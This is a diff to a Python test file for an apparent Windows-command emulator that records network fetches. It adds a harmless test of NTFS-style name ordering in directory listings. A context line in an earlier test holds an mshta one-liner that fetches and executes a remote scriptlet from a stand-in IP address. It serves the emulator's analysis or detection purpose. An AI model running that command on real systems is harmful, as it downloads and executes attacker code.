@@ -248,3 +248,12 @@ def test_a_scriptlet_by_its_moniker() -> None:
     told = Told(outside={"http://198.51.100.7/b.sct": sct.encode(), URL: b""})
     told.run('mshta javascript:a=GetObject("script:http://198.51.100.7/b.sct").Exec();close();')
     assert told.wished == ["http://198.51.100.7/b.sct", URL]
+
+
+def test_names_stand_in_the_order_in_which_ntfs_keeps_them() -> None:
+    told = Told()
+    told.run("echo x> C:\\_last & echo x> C:\\aaa")
+    names = told.run("dir /b C:\\").split("\r\n")[:-1]
+    assert names == sorted(names, key=str.upper)
+    assert names[0] == "aaa"
+    assert names[-1] == "_last"
